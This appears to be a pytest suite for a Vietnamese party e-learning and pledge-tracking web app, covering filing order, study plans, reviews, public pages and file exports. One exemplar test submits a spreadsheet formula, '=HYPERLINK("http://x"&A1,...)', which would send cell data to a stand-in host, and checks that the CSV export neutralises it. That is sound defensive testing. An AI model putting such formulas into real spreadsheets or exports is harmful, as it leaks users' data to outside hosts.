"""Around the pledge: which study counts for a plan, "trong trước, ngoài sau", the 27
manifestations on record, the press, breakthrough content, exemplars, committees set by
admins, and Vietnam dates in every file — through the web client on both databases."""
from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from elearn.clock import local_today
from elearn.content.pledge_template import DEFAULT_TEMPLATE
from elearn.extensions import db
from elearn.models import Completion, CommitteeSeat, Pledge, Position, Role, StudyPlan
from elearn.registry import current_registry
from elearn.services import completions
from elearn.services.accounts import create_user, find_user, grant_role
from elearn.services.committees import set_seat
from elearn.services.orgs import create_unit
from elearn.testing import csrf_token, login

PASSWORD = "mat-khau-dai"
COURSE = "cd-2016-toan-khoa"
YEAR = local_today().year


@pytest.fixture
def cell(app):
    """A commune whose secretary and deputy have filed, and a cell with its secretary."""
    with app.app_context():
        commune = create_unit("X", "Đảng ủy xã An Phú", "grassroots")
        cell = create_unit("C", "Chi bộ ấp Phú Hòa", "cell", commune)
        plan = StudyPlan(year=YEAR, unit=commune, title="KH", audience="cadre",
                         courses=json.dumps([COURSE]), deadline=local_today() + timedelta(days=9),
                         superiors_first=True, inside_first=True, template=DEFAULT_TEMPLATE)
        db.session.add(plan)
        for username, position in (("btxa", Position.SECRETARY), ("pbtxa", Position.DEPUTY)):
            user = create_user(username, f"Lãnh đạo {username}", PASSWORD, commune)
            set_seat(commune, user, position, None)
            db.session.add(Pledge(user=user, plan=plan, year=YEAR, status="acknowledged"))
        btcb = create_user("btcb", "Nguyễn Văn Thành", PASSWORD, cell, position="Bí thư chi bộ")
        btcb.is_leader = True
        set_seat(cell, btcb, Position.SECRETARY, None)
        create_user("dv", "Trần Thị Ân", PASSWORD, cell)
        create_user("congchuc", "Lê Công Chức", PASSWORD, cell, is_party_member=False)
        admin = create_user("quantri", "Quản trị", PASSWORD, commune)
        grant_role(admin, Role.ADMIN, commune)
        course = current_registry().course(COURSE)
        for username in ("btcb", "dv", "congchuc"):
            completions.create(find_user(username), course, method="in_person", score=None)
        db.session.commit()
    return app


def client_for(app, username):
    client = app.test_client()
    assert login(client, username, PASSWORD).status_code == 302
    return client


def file(client, **extra):
    data = {"csrf_token": csrf_token(client, f"/pledges/{YEAR}"), "file": "y", "accepted": "y",
            "ct05-0-what": "Không nhận quà biếu khi giải quyết việc cho dân",
            "ct05-0-by_when": "Cả năm", "ct05-0-how": "Nhân dân giám sát",
            "m_B7": "y", "g_B7": "Công khai quy trình, từ chối mọi phong bì",
            "m_A6": "y", "g_A6": "Hứa việc gì ghi vào sổ và báo cáo chi bộ"}
    data.update(extra)
    return client.post(f"/pledges/{YEAR}", data=data)


def test_outside_the_party_files_after_the_party_members(cell):
    congchuc, dv = client_for(cell, "congchuc"), client_for(cell, "dv")
    assert file(client_for(cell, "btcb")).status_code == 302
    refused = file(congchuc)
    assert refused.status_code == 409
    text = refused.get_data(as_text=True)
    assert "trong trước, ngoài sau" in text and "Trần Thị Ân" in text
    assert file(dv).status_code == 302
    assert file(congchuc).status_code == 302


def test_study_from_before_the_plan_does_not_count(cell):
    with cell.app_context():
        plan = db.session.scalar(select(StudyPlan))
        plan.study_since = local_today()
        old = db.session.scalar(select(Completion).where(Completion.user.has(username="dv")))
        db.session.delete(old)
        completions.create(find_user("dv"), current_registry().course(COURSE),
                           method="in_person", score=None,
                           completed_at=datetime.utcnow() - timedelta(days=400))
        db.session.commit()
    assert file(client_for(cell, "btcb")).status_code == 302
    refused = file(client_for(cell, "dv"))
    assert refused.status_code == 409 and "chưa được xác nhận" in refused.get_data(as_text=True)
    with cell.app_context():
        plan = db.session.scalar(select(StudyPlan))
        plan.study_since, plan.min_versions = None, json.dumps({COURSE: "99.0"})
        db.session.commit()
    assert file(client_for(cell, "dv")).status_code == 409   # an older course version
    with cell.app_context():
        db.session.scalar(select(StudyPlan)).min_versions = "{}"
        db.session.commit()
    assert file(client_for(cell, "dv")).status_code == 302


def test_the_manifestations_are_on_record_in_review_public_page_press_and_bundles(cell):
    btcb = client_for(cell, "btcb")
    unchecked = file(btcb, accepted="")
    assert unchecked.status_code == 409 and "27 biểu hiện" in unchecked.get_data(as_text=True)
    assert file(btcb).status_code == 302
    with cell.app_context():
        pledge = db.session.scalar(select(Pledge).where(Pledge.user.has(username="btcb")))
        version = pledge.versions[-1]
        assert {m["id"] for m in json.loads(version.manifestations)} == {"A6", "B7"}
        assert "27 biểu hiện" in json.loads(version.commitment)["vi"]
        pledge_id = pledge.id
        # Filed late on 1 December UTC is 2 December in Vietnam: so say the files.
        pledge.filed_at = datetime(2026, 12, 1, 18, 30)
        db.session.commit()
    btxa = client_for(cell, "btxa")
    review = btxa.get(f"/review/pledges/{pledge_id}").get_data(as_text=True)
    assert "Tham ô, tham nhũng" in review and "từ chối mọi phong bì" in review
    token = csrf_token(btxa, f"/review/pledges/{pledge_id}")
    assert btxa.post(f"/review/pledges/{pledge_id}/acknowledge",
                     data={"csrf_token": token}).status_code == 302
    published = btxa.post(f"/review/pledges/{pledge_id}/publish",
                          data={"csrf_token": token, "publish": "1"})
    assert published.status_code == 302

    anyone = cell.test_client()
    page = anyone.get("/public/units/X/pledges").get_data(as_text=True)
    assert "Nguyễn Văn Thành" in page and "Tham ô, tham nhũng" in page
    radio = anyone.get("/public/units/X/pledges.txt")
    assert radio.mimetype == "text/plain"
    text = radio.get_data(as_text=True)
    assert "Nguyễn Văn Thành, Bí thư chi bộ." in text and "Không nhận quà biếu" in text
    assert "<" not in text
    column = anyone.get("/public/units/X/pledges.pdf")
    pdf_text = " ".join(" ".join(p.extract_text() for p in
                                 PdfReader(io.BytesIO(column.data)).pages).split())
    assert "Nguyễn Văn Thành" in pdf_text and "từ chối mọi phong bì" in pdf_text

    xlsx = btxa.get(f"/review/export.xlsx?unit=X&year={YEAR}")
    rows = list(load_workbook(io.BytesIO(xlsx.data)).active.values)
    row = next(r for r in rows if r[0] == "Nguyễn Văn Thành")
    assert row[4].startswith("2026-12-02T01:30:00+07:00")
    assert "B7" in row[-1] and "từ chối mọi phong bì" in row[-1]


def test_breakthrough_content_is_set_tied_to_and_counted(cell):
    btcb = client_for(cell, "btcb")
    page = f"/review/?unit=C&year={YEAR}"
    saved = btcb.post(f"/review/breakthrough?unit=C&year={YEAR}", data={
        "csrf_token": csrf_token(btcb, page), "title": "Chuyển đổi số trong sinh hoạt ấp",
        "description": "Mỗi hộ có một người dùng được dịch vụ công trực tuyến"})
    assert saved.status_code == 302
    dv_page = client_for(cell, "dv").get(f"/pledges/{YEAR}").get_data(as_text=True)
    assert "Chuyển đổi số trong sinh hoạt ấp" in dv_page
    assert file(btcb, **{"ct05-0-breakthrough": "y"}).status_code == 302
    assert file(client_for(cell, "dv")).status_code == 302
    index = btcb.get(page).get_data(as_text=True)
    assert "1 trên 2 bản đăng ký" in index
    with cell.app_context():
        officer = create_user("tuyengiao", "Cán bộ Tuyên giáo", PASSWORD, find_user("btxa").unit)
        grant_role(officer, Role.OFFICER, officer.unit)
        db.session.commit()
    board = client_for(cell, "tuyengiao").get(f"/dashboard/?unit=C&year={YEAR}")
    assert "Gắn với nội dung đột phá" in board.get_data(as_text=True)
    assert "1 / 2" in board.get_data(as_text=True)
    outsider = client_for(cell, "dv")
    refused = outsider.post(f"/review/breakthrough?unit=C&year={YEAR}", data={
        "csrf_token": csrf_token(outsider, "/"), "title": "x"})
    assert refused.status_code == 403


def test_exemplars_are_nominated_approved_above_and_published(cell):
    btcb = client_for(cell, "btcb")
    nominated = btcb.post(f"/review/exemplars?unit=C&year={YEAR}", data={
        "csrf_token": csrf_token(btcb, f"/review/exemplars?unit=C&year={YEAR}"),
        "kind": "person", "username": "dv",
        "description": "Vận động 30 hộ hiến đất làm đường", "evidence": "Xếp loại xuất sắc"})
    assert nominated.status_code == 302
    with cell.app_context():
        from elearn.models import Exemplar

        exemplar_id = db.session.scalar(select(Exemplar.id))
    # The nominating committee cannot approve its own nomination; the level above can.
    own = btcb.post(f"/review/exemplars/{exemplar_id}/decide", data={
        "csrf_token": csrf_token(btcb, "/"), "decision": "approved"})
    assert own.status_code == 403
    assert "Trần Thị Ân" not in cell.test_client().get("/public/units/X/exemplars").get_data(
        as_text=True)
    btxa = client_for(cell, "btxa")
    approved = btxa.post(f"/review/exemplars/{exemplar_id}/decide", data={
        "csrf_token": csrf_token(btxa, "/"), "decision": "approved", "note": "Đồng ý"})
    assert approved.status_code == 302
    public = cell.test_client().get("/public/units/X/exemplars").get_data(as_text=True)
    assert "Trần Thị Ân" in public and "hiến đất" in public
    exported = cell.test_client().get("/public/units/X/exemplars.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][2] == "Trần Thị Ân" and rows[1][0] == str(YEAR)

    # A collective named like a spreadsheet formula comes out as text.
    hostile = '=HYPERLINK("http://x"&A1,"Xem")'
    btcb.post(f"/review/exemplars?unit=C&year={YEAR}", data={
        "csrf_token": csrf_token(btcb, f"/review/exemplars?unit=C&year={YEAR}"),
        "kind": "collective", "name": hostile, "description": "Tổ tự quản\x0b làm đường"})
    with cell.app_context():
        from elearn.models import Exemplar

        second = db.session.scalar(select(Exemplar.id).where(Exemplar.name == hostile))
    btxa.post(f"/review/exemplars/{second}/decide", data={
        "csrf_token": csrf_token(btxa, "/"), "decision": "approved"})
    rows = list(csv.reader(io.StringIO(cell.test_client().get(
        "/public/units/X/exemplars.csv").get_data(as_text=True))))
    cells = [value for row in rows for value in row]
    assert "'" + hostile in cells and hostile not in cells
    assert not any("\x0b" in value for value in cells)


def test_admins_set_committees_on_the_web_and_by_csv(cell):
    admin = client_for(cell, "quantri")
    with cell.app_context():
        cell_id = db.session.scalar(select(CommitteeSeat.unit_id).where(
            CommitteeSeat.user.has(username="btcb")))
    page = f"/admin/units/{cell_id}/committee"
    added = admin.post(page, data={"csrf_token": csrf_token(admin, page), "username": "dv",
                                   "position": "deputy_secretary"})
    assert added.status_code == 302
    second = admin.post(page, data={"csrf_token": csrf_token(admin, page),
                                    "username": "dv", "position": "secretary"})
    assert second.status_code == 400 and "Nguyễn Văn Thành" in second.get_data(as_text=True)
    listing = admin.get(page).get_data(as_text=True)
    assert "Trần Thị Ân" in listing and "Phó Bí thư" in listing
    upload = admin.post("/admin/committees/import", data={
        "csrf_token": csrf_token(admin, "/admin/committees/import"),
        "file": (io.BytesIO("unit_code,username,position\nC,congchuc,member\nZZ,dv,member\n"
                            .encode()), "cap-uy.csv")},
        content_type="multipart/form-data")
    assert upload.status_code == 400
    assert "Không có đơn vị này" in upload.get_data(as_text=True)
    with cell.app_context():
        assert db.session.scalar(select(CommitteeSeat).where(
            CommitteeSeat.user.has(username="congchuc"))) is None
        seat_id = db.session.scalar(select(CommitteeSeat.id).where(
            CommitteeSeat.user.has(username="dv")))
    removed = admin.post(f"{page}/{seat_id}/remove", data={"csrf_token": csrf_token(admin, page)})
    assert removed.status_code == 302
    assert "Trần Thị Ân" not in admin.get(page).get_data(as_text=True).split("<form")[0]


# Issue #14 item 4: after answering a pledge the reviewer is told whose it was, where the next
# one waiting is (or that nothing is left) and, after publishing, where the public page is.

def _pledge_id(app, username: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Pledge.id).where(Pledge.user.has(username=username)))


def test_reviewer_sees_whose_pledge_the_next_one_and_the_public_page(cell):
    assert file(client_for(cell, "btcb")).status_code == 302
    assert file(client_for(cell, "dv")).status_code == 302
    first, second = _pledge_id(cell, "btcb"), _pledge_id(cell, "dv")
    with cell.app_context():  # both wait for the commune's committee: a queue of two
        db.session.get(Pledge, second).review_unit_id = db.session.get(Pledge, first).review_unit_id
        db.session.commit()
    btxa = client_for(cell, "btxa")
    token = csrf_token(btxa, f"/review/pledges/{first}")

    page = btxa.post(f"/review/pledges/{first}/acknowledge", data={"csrf_token": token},
                     follow_redirects=True).get_data(as_text=True)
    assert "Đã tiếp nhận bản đăng ký của Nguyễn Văn Thành." in page
    assert (f'<a href="/review/pledges/{second}">Bản đăng ký tiếp theo chờ đồng chí: '
            "Trần Thị Ân</a>") in page

    page = btxa.post(f"/review/pledges/{first}/publish", data={"csrf_token": token, "publish": "1"},
                     follow_redirects=True).get_data(as_text=True)
    assert "Bản đăng ký của Nguyễn Văn Thành đã đăng trên trang công khai." in page
    assert '<a href="/public/units/C/pledges">Xem trên trang công khai</a>' in page

    page = btxa.post(f"/review/pledges/{second}/return",
                     data={"csrf_token": token, "comment": "Ghi rõ thời hạn từng việc"},
                     follow_redirects=True).get_data(as_text=True)
    assert "Đã trả lại bản đăng ký của Trần Thị Ân để chỉnh sửa." in page
    assert "Không còn bản đăng ký nào chờ đồng chí trả lời." in page
